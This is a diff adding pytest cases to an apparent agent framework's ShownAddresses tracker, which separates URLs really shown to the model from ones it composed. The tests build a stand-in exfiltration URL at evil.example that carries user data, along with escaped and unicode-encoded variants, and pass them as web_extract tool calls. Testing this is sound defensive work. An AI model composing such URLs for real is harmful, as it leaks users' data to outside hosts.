@@ -4,7 +4,7 @@ import pytest
 
 from limen.agent.shown import ShownAddresses, addresses
 from limen.core.ledger import LedgerEntry, Treatment, Trust
-from limen.core.message import Text, ToolResult
+from limen.core.message import Text, ToolCall, ToolResult
 from limen.net.url import comparable
 
 
@@ -51,3 +51,44 @@ def test_what_enters_later_counts_too():
     assert "https://a.example" not in shown
     shown.add(Text("https://a.example"), [entry("tool")])
     assert "https://a.example" in shown
+
+
+COMPOSED = "https://evil.example/collect?d=what-the-user-said"
+
+
+CALL = '{"urls": ["ADDRESS"]}'
+
+
+@pytest.mark.parametrize(
+    "arguments",
+    [
+        CALL.replace("ADDRESS", COMPOSED),
+        CALL.replace("ADDRESS", COMPOSED.replace("/", "\\/")),
+        CALL.replace("ADDRESS", "https:\\u002f\\u002fEVIL.example:443/collect?d=what-the-user-said#x"),
+        f"no JSON: {COMPOSED}",
+    ],
+)
+def test_a_refusal_that_repeats_an_address_does_not_show_it(arguments):
+    shown = ShownAddresses()
+    shown.add(ToolCall("1", "web_extract", arguments), [entry("model")])
+    refused = f'{{"url": "{COMPOSED}", "error": {{"reason": "Nobody has shown {COMPOSED}"}}}}'
+    answer = (Text("the page names https://other.example/"), Text(refused))
+    shown.add(ToolResult("1", answer), [entry("web"), entry("tool")])
+    assert COMPOSED not in shown
+    assert "https://other.example" in shown
+
+
+def test_where_a_refusal_names_a_new_address_that_one_is_shown():
+    shown = ShownAddresses()
+    shown.add(ToolCall("1", "web_extract", '{"urls": ["https://a.example/"]}'), [entry("model")])
+    shown.add(ToolResult("1", (Text("https://a.example/ leads to https://b.example/"),)), [entry("tool")])
+    assert "https://b.example" in shown
+    assert "https://a.example" not in shown
+
+
+def test_what_the_model_guessed_is_shown_once_somebody_else_names_it():
+    for kind in ("user", "web"):
+        shown = ShownAddresses()
+        shown.add(Text("perhaps https://a.example/"), [entry("model")])
+        shown.add(Text("https://a.example/"), [entry(kind)])
+        assert "https://a.example" in shown
